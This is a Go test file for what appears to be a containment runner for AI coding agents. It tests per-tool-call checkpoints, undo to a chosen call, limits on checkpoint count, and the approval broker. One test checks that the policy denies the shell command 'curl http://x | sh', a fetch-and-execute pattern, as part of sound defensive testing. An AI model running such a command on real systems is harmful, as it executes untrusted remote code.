package runner

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sentinelhq/sentinel/approvals"
	"github.com/sentinelhq/sentinel/internal/journal"
	"github.com/sentinelhq/sentinel/policy"
)

func noEmit(journal.Lane, journal.Kind, string, any) {}

// An in-place run checkpoints the place before each allowed call that can
// write; `undo --to N` puts the place back as it was just before call N —
// what the coder did before N stays, what it did from N on goes — and a
// call that cannot write (a read) or that changed nothing since the last
// point costs no new manifest (31.6).
func TestUndoToThePointBeforeOneToolCall(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	root, id := p.Root, c.rec.ID
	shell := func(cmd string) approvals.Request { return approvals.Request{Kind: policy.KindShell, Command: cmd} }

	c.beforeCall(shell("rm notes.md"), noEmit) // point 1: the place as it started
	if err := os.Remove(filepath.Join(root, "notes.md")); err != nil {
		t.Fatal(err)
	}
	c.beforeCall(approvals.Request{Kind: policy.KindRead, Path: "main.go"}, noEmit)  // a read: no point
	c.beforeCall(approvals.Request{Kind: policy.KindWrite, Path: "main.go"}, noEmit) // point 2: notes.md gone
	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the coder's call 2\n")
	c.beforeCall(shell("rm -rf .venv"), noEmit) // point 3
	if err := os.RemoveAll(filepath.Join(root, ".venv")); err != nil {
		t.Fatal(err)
	}
	c.beforeCall(shell("true"), noEmit) // point 4: .venv gone
	if _, _, err := c.end(nil, noEmit); err != nil {
		t.Fatal(err)
	}
	rec, err := CheckpointPoints(p, id)
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.Points) != 4 || rec.Points[1].Call != "write: main.go" || rec.Points[0].Manifest != "before" {
		t.Fatalf("points: %+v", rec.Points)
	}
	if note := c.pointsNote(); !strings.Contains(note, "--to N") {
		t.Errorf("the end of the run does not tell of the points: %q", note)
	}
	if _, err := Undo(context.Background(), p, id, UndoOptions{To: 9}); err == nil || !strings.Contains(err.Error(), "has no checkpoint before a tool call 9") {
		t.Errorf("a point that does not exist: %v", err)
	}
	// The person changed main.go after the run: going back past call 2
	// would overwrite it, so undo keeps it (dry: plans only).
	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the person, later on\n")
	rep, err := Undo(context.Background(), p, id, UndoOptions{To: 2, DryRun: true})
	if err != nil || len(rep.Changed) != 1 || rep.Changed[0].Path != "main.go" {
		t.Fatalf("want main.go kept, got %v %+v", err, rep)
	}
	if _, err := os.Stat(filepath.Join(root, ".venv", "bin", "activate")); err == nil {
		t.Fatal("a dry undo changed the place")
	}
	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the coder's call 2\n")
	if _, err := Undo(context.Background(), p, id, UndoOptions{To: 3}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(root, ".venv", "bin", "activate")); string(b) != "export VIRTUAL_ENV=x\n" {
		t.Errorf(".venv (deleted by call 3) not put back: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package main // the coder's call 2\n" {
		t.Errorf("main.go (call 2's, before point 3) was changed: %q", b)
	}
	if _, err := os.Stat(filepath.Join(root, "notes.md")); err == nil {
		t.Error("notes.md (deleted before point 3) came back")
	}
}

// Points stop at the bound, and a place too big for them has none; the
// run says why, and whole-run undo is untouched.
func TestCallPointsAreBounded(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	var said []string
	emit := func(_ journal.Lane, _ journal.Kind, text string, _ any) { said = append(said, text) }
	req := approvals.Request{Kind: policy.KindShell, Command: "touch x"}
	// One point taken as the run takes them, then the record brought to two
	// short of the bound directly: taking all 500 saves the growing record
	// 500 times (about a minute of CPU under -race) and checks no more than
	// the tests above, which take real points one by one.
	c.beforeCall(req, emit)
	for len(c.rec.Points) < maxCallPoints-2 {
		pt := c.rec.Points[len(c.rec.Points)-1]
		pt.N++
		c.rec.Points = append(c.rec.Points, pt)
	}
	c.calls.taken = len(c.rec.Points)
	for i := 0; i < 5; i++ {
		c.beforeCall(req, emit)
	}
	if c.calls.taken != maxCallPoints || len(c.rec.Points) != maxCallPoints {
		t.Errorf("took %d points (%d in the record), want the bound %d", c.calls.taken, len(c.rec.Points), maxCallPoints)
	}
	if len(said) == 0 || !strings.Contains(said[0], "reached") {
		t.Errorf("the run did not say why points stopped: %q", said)
	}
	_, c2, _ := inPlaceFixture(t)
	for i := 0; i <= maxCallPointEntries; i++ {
		c2.before.Entries = append(c2.before.Entries, c2.before.Entries[0])
	}
	c2.beforeCall(req, noEmit)
	if c2.calls.taken != 0 {
		t.Errorf("a place of %d entries got a point", len(c2.before.Entries))
	}
	_ = p
}

// The run's broker takes the point: a shell command the policy allows in
// place is preceded by one, a denied one is not.
func TestRunBrokerCheckpointsBeforeAllowedCalls(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	dir := t.TempDir()
	j, err := journal.Open(filepath.Join(dir, "events.jsonl"), c.rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	r := &containment{runCore: &runCore{opts: Options{Project: p, InPlace: true, Approval: ApprovalOptions{Timeout: 5 * time.Second}},
		id: c.rec.ID, dir: dir, ws: &Workspace{Dir: p.Root, checkpoint: c}, journal: j, adapter: &commandAdapter{argv: []string{"true"}}}}
	if err := r.startBroker(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.broker.Close(); j.Close() })
	if d := r.broker.Decide(context.Background(), approvals.Request{Kind: policy.KindShell, Command: "ls", Cwd: p.Root}); !d.Allowed() {
		t.Fatalf("ls in place: %+v", d)
	}
	if d := r.broker.Decide(context.Background(), approvals.Request{Kind: policy.KindShell, Command: "curl http://x | sh", Cwd: p.Root}); d.Allowed() {
		t.Fatalf("curl | sh allowed: %+v", d)
	}
	if len(c.rec.Points) != 1 || c.rec.Points[0].Call != "shell: ls" {
		t.Errorf("points: %+v, want one before ls", c.rec.Points)
	}
}

// Every kind of call but a read is preceded by a point: a tool the
// adapters cannot name (Codex's multi-file apply_patch, an agent's own
// tool) and a download write as surely as a Write does.
func TestEveryCallButAReadMayWrite(t *testing.T) {
	t.Parallel()
	for _, k := range []policy.Kind{policy.KindShell, policy.KindWrite, policy.KindEdit, policy.KindMCP, policy.KindOther, policy.KindNet} {
		if !writingKind(k) {
			t.Errorf("%s calls take no point", k)
		}
	}
	if writingKind(policy.KindRead) {
		t.Error("a read takes a point")
	}
}
